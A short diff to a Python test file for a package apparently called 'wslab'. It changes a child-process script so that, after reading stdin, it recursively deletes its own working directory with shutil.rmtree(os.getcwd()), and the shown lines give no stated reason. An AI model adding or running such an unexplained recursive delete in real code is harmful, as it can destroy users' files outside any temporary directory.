@@ -14,7 +14,9 @@ import wslab
 from wslab.machines.process import ChildProcess
 from wslab.notebook import cells
 
-READS = "import sys; open('up', 'w').close(); sys.stdin.read()"
+READS = (
+    "import os, shutil, sys; open('up', 'w').close(); sys.stdin.read(); shutil.rmtree(os.getcwd())"
+)
 IGNORES = "import time; open('up', 'w').close(); time.sleep(60)"
 
 
